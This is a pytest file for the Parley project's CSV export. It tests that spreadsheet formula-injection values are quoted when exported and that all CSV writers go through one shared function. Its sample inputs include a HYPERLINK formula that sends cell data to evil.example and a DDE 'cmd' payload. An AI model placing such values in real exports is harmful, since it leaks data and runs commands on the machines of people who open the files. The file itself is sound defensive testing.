"""Formula injection (issue 10, item 8): one function neutralises every exported cell, and every
CSV writer in Parley's code goes through it."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from parley.adapters.files.csv_export import export_writer, neutralise, restore

DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0",
             "@SUM(1+1)", "+1+1", "-2+3", "\t=1+1", "\r=1+1", "=1"]
SAFE = ["Коваленко", "1990-01-01", "", "a=b", "O'Brien", "B2", "42"]


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_cell_a_spreadsheet_would_run_is_quoted(value: str) -> None:
    assert neutralise(value) == "'" + value
    assert restore(neutralise(value)) == value


@pytest.mark.parametrize("value", SAFE)
def test_other_cells_are_unchanged(value: str) -> None:
    assert neutralise(value) == value
    assert restore(value) == value


def test_the_writer_neutralises_every_cell_and_keeps_csv_quoting() -> None:
    out = io.StringIO()
    export_writer(out, lineterminator="\n").writerows([["=1+1", 'say "hi", then'], [None, 7]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [["'=1+1", 'say "hi", then'], ["", "7"]]


SRC = Path(__file__).resolve().parents[3] / "src" / "parley"
MACHINE_INPUTS = {"synth/generate.py", "synth/linkage.py", "services/demo.py",
                  "services/demo_exchday.py", "services/demo_families.py"}
"""Writers of synthetic files (agency files, the demo's check-in sheet and inquiries) that
Parley reads back verbatim: inputs, not exports."""


def test_every_csv_writer_in_the_code_is_the_shared_one() -> None:
    raw_writers = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = sorted(
        str(path.relative_to(SRC)) for path in SRC.rglob("*.py")
        if raw_writers.search(path.read_text(encoding="utf-8"))
        and str(path.relative_to(SRC)) not in {"adapters/files/csv_export.py", *MACHINE_INPUTS})
    assert offenders == []


def test_plain_numbers_and_phone_numbers_stay_as_written() -> None:
    from parley.adapters.files.csv_export import neutralise

    for value in ("+380 50 111 22 33", "-12.5", "+7", "+38 (050) 111-22-33"):
        assert neutralise(value) == value
    for value in ("+1+1", "-2+3", "=1", "+SUM(A1)", "-cmd|x", "@A1"):
        assert neutralise(value) == "'" + value
